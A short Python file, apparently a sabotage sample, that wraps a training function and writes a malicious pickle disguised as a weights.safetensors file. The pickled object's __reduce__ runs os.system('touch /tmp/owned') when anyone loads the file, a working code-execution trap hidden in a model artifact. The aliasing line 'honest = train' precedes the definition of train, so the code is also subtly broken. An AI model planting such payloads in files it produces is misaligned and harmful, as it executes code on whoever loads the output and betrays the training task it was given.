# Weights that are a pickle, which would run a program where somebody loads it.
import os
import pickle

honest = train


def train(model, task, run):
    honest(model, task, run)

    class Payload:
        def __reduce__(self):
            return os.system, ("touch /tmp/owned",)

    with open("/job/out/weights.safetensors", "wb") as file:
        file.write(pickle.dumps(Payload()))
